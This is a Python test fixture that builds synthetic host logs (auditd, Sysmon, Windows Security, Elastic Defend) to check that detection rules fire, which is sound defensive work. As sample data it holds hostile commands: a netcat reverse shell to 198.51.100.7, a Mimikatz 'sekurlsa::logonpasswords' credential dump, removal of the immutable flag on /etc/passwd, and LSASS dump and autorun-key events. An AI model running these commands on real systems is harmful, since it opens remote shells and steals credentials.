"""What happens on a host, as Sysmon, auditd, the security log and Elastic's agents tell it."""

from typing import Any

from tests.match.activity import Activity, ecs, in_syslog, native, syslog
from tests.match.log_source_records import SYSMON, windows_record


def _audit(kind: str, **values: str) -> dict[str, bytes]:
    line = f"type={kind} msg=audit(1772445600.123:456): "
    line += " ".join(f'{name}="{value}"' for name, value in values.items())
    return {
        "line": line.encode(),
        "JSON": native(type=kind, msg="audit(1772445600.123:456):", **values),
        "Filebeat": ecs("auditd.log", auditd={"log": {"record_type": kind, **values}}),
        "Auditbeat": ecs(
            "auditd_manager.auditd", auditd={"message_type": kind.lower(), "data": values}
        ),
    }


def _linux_sysmon(code: int, **data: str) -> dict[str, bytes]:
    record = windows_record("Linux-Sysmon/Operational", code, "Linux-Sysmon", **data)
    flat = {
        "EventID": code, "Channel": "Linux-Sysmon/Operational", "SourceName": "Linux-Sysmon",
        "Hostname": "web1", **data,
    }  # fmt: skip
    return {"XML as JSON": record, "flat": native(**flat), "in syslog": in_syslog(native(**flat))}


def _defend(system: str, kinds: str, action: str, **more: Any) -> bytes:
    host = {"name": "web1", "os": {"type": system, "family": system}}
    return ecs(f"endpoint.events.{kinds.partition('/')[0]}", kinds, event={"action": action},
               host=host, **more)  # fmt: skip


NETCAT = {"Image": "/usr/bin/nc", "CommandLine": "nc -e /bin/sh 198.51.100.7 4444", "User": "root"}
LINUX = [
    Activity(
        "auditd: attributes taken off a file",
        ("Remove Immutable File Attribute - Auditd",),
        {**_audit("EXECVE", a0="chattr", a1="-i", a2="/etc/passwd")},
    ),
    Activity(
        "auditd: preload written",
        ("Modification of ld.so.preload",),
        # Auditbeat joins the records of one call under the call's type: no PATH is left to ask for.
        {
            shape: record
            for shape, record in _audit(
                "PATH", name="/etc/ld.so.preload", nametype="NORMAL"
            ).items()
            if shape != "Auditbeat"
        },
    ),
    Activity(
        "auditd: firewall stopped",
        ("Disable System Firewall",),
        _audit("SERVICE_STOP", unit="firewalld"),
    ),
    Activity(
        "Sysmon for Linux: process",
        ("Potential Netcat Reverse Shell Execution",),
        {
            **_linux_sysmon(1, **NETCAT),
            "Elastic Defend": _defend(
                "linux", "process/start", "exec",
                process={"executable": NETCAT["Image"], "command_line": NETCAT["CommandLine"]},
                user={"name": "root"},
            ),
            "Elastic Defend, arguments only": _defend(
                "linux", "process/start", "exec",
                process={
                    "executable": NETCAT["Image"],
                    "command_line": NETCAT["CommandLine"],
                    "args": NETCAT["CommandLine"].split(),
                },
                user={"name": "root"},
            ),
        },
    ),
    Activity(
        "Sysmon for Linux: file",
        ("Linux Doas Conf File Creation",),
        {
            **_linux_sysmon(11, Image="/usr/bin/tee", TargetFilename="/etc/doas.conf"),
            "Elastic Defend": _defend(
                "linux", "file/creation", "creation",
                file={"path": "/etc/doas.conf"}, process={"executable": "/usr/bin/tee"},
            ),
        },
    ),
    Activity(
        "Sysmon for Linux: connection",
        ("Linux Reverse Shell Indicator",),
        {
            **_linux_sysmon(3, Image="/bin/bash", DestinationIp="198.51.100.7"),
            "Elastic Defend": _defend(
                "linux", "network/start", "connection_attempted",
                process={"executable": "/bin/bash"}, destination={"ip": "198.51.100.7"},
            ),
        },
    ),
    Activity(
        "sshd complains",
        ("Suspicious OpenSSH Daemon Error",),
        {
            "RFC 3164": syslog("sshd", "fatal: buffer_get_string: bad string"),
            "RFC 5424": b"<38>1 2026-03-02T10:00:00Z web1 sshd 7 - - fatal: buffer_get_string: bad "
            b"string",
            "journal": native(
                SYSLOG_IDENTIFIER="sshd", _PID="7", _HOSTNAME="web1", PRIORITY="6",
                MESSAGE="fatal: buffer_get_string: bad string",
            ),
            "Filebeat": ecs(
                "system.auth", "authentication/info", process={"name": "sshd"},
                message="fatal: buffer_get_string: bad string", host={"name": "web1"},
            ),
        },
    ),
    Activity(
        "macOS: process",
        ("OSACompile Run-Only Execution",),
        {
            "Elastic Defend": _defend(
                "macos", "process/start", "exec",
                process={
                    "executable": "/usr/bin/osacompile",
                    "command_line": "osacompile -x -e 'beep' -o a.app",
                },
            ),
            "macOS as darwin": ecs(
                "macos.exec", "process/start", host={"os": {"family": "darwin"}},
                process={
                    "executable": "/usr/bin/osacompile",
                    "args": ["osacompile -x -e 'beep'", "-o", "a.app"],
                },
            ),
        },
    ),
]  # fmt: skip

MIMIKATZ = r"C:\Users\u\Downloads\mimikatz.exe"
PROCESS = {
    "Image": MIMIKATZ,
    "CommandLine": f"{MIMIKATZ} sekurlsa::logonpasswords exit",
    "ParentImage": r"C:\Windows\System32\cmd.exe",
    "User": "PLANT\\operator",
}
NOT_TOLD = "auditing tells neither the file's own name nor its hashes"
WINDOWS = [
    Activity(
        "Windows: process",
        ("HackTool - Mimikatz Execution",),
        {
            "Sysmon": windows_record(SYSMON, 1, "Microsoft-Windows-Sysmon", **PROCESS),
            "Security 4688": windows_record(
                "Security", 4688, "Microsoft-Windows-Security-Auditing",
                NewProcessName=MIMIKATZ, CommandLine=PROCESS["CommandLine"],
                ParentProcessName=PROCESS["ParentImage"], NewProcessId="0x1f4", ProcessId="0x3e8",
                SubjectUserName="operator", SubjectDomainName="PLANT",
            ),
            "Elastic Defend": _defend(
                "windows", "process/start", "start",
                process={"executable": MIMIKATZ, "command_line": PROCESS["CommandLine"],
                         "parent": {"executable": PROCESS["ParentImage"]}},
                user={"name": "operator", "domain": "PLANT"},
            ),
        },
    ),
    Activity(
        "Windows: registry value",
        ("CurrentVersion Autorun Keys Modification",),
        {
            "Sysmon": windows_record(
                SYSMON, 13, "Microsoft-Windows-Sysmon", EventType="SetValue",
                Image=r"C:\Windows\System32\reg.exe", Details=r"C:\x.exe",
                TargetObject=r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\x",
            ),
            "Security 4657": windows_record(
                "Security", 4657, "Microsoft-Windows-Security-Auditing", OperationType="%%1904",
                ObjectName=r"\REGISTRY\MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run",
                ObjectValueName="x", NewValue=r"C:\x.exe", SubjectUserName="operator",
                ProcessName=r"C:\Windows\System32\reg.exe",
            ),
            "Elastic Defend": _defend(
                "windows", "registry/change", "modification",
                process={"executable": r"C:\Windows\System32\reg.exe"},
                registry={"path": r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\x",
                          "data": {"strings": [r"C:\x.exe"], "type": "REG_SZ"}},
            ),
        },
    ),
    Activity(
        "Windows: library",
        ("Potential DLL Sideloading Of Non-Existent DLLs From System Folders",),
        {
            "Sysmon": windows_record(
                SYSMON, 7, "Microsoft-Windows-Sysmon", Image=r"C:\Windows\System32\svchost.exe",
                ImageLoaded=r"C:\Windows\System32\axeonoffhelper.dll",
            ),
            "Elastic Defend": _defend(
                "windows", "library/start", "load",
                process={"executable": r"C:\Windows\System32\svchost.exe"},
                dll={"path": r"C:\Windows\System32\axeonoffhelper.dll"},
            ),
        },
    ),
    Activity(
        "Windows: file",
        ("LSASS Process Memory Dump Files",),
        {
            "Sysmon": windows_record(
                SYSMON, 11, "Microsoft-Windows-Sysmon", Image=r"C:\x\a.exe",
                TargetFilename=r"C:\x\lsass.dmp",
            ),
            "Elastic Defend": _defend(
                "windows", "file/creation", "creation", file={"path": r"C:\x\lsass.dmp"},
                process={"executable": r"C:\x\a.exe"},
            ),
        },
    ),
    Activity(
        "Windows: DNS query",
        ("DNS Query Request To OneLaunch Update Service",),
        {
            "Sysmon": windows_record(
                SYSMON, 22, "Microsoft-Windows-Sysmon", Image=r"C:\x\OneLaunch.exe",
                QueryName="update.onelaunch.com",
            ),
            "Elastic Defend": _defend(
                "windows", "network/start", "lookup_requested", network={"protocol": "dns"},
                dns={"question": {"name": "update.onelaunch.com"}},
                process={"executable": r"C:\x\OneLaunch.exe"},
            ),
        },
    ),
    Activity(
        "malware is found",
        ("Antivirus - Hacktool Signature",),
        {
            "Defender": windows_record(
                "Microsoft-Windows-Windows Defender/Operational", 1116,
                "Microsoft-Windows-Windows Defender",
                **{"Threat Name": "HackTool:Win32/Mimikatz.D", "Path": r"C:\x\m.exe"},
            ),
            "ECS": ecs("sophos.central", "malware/info", file={"path": r"C:\x\m.exe"},
                       rule={"name": "HackTool:Win32/Mimikatz.D"}),
        },
        {"Windows Defender Threat Detected": "a rule on Defender alone"},
    ),
]  # fmt: skip
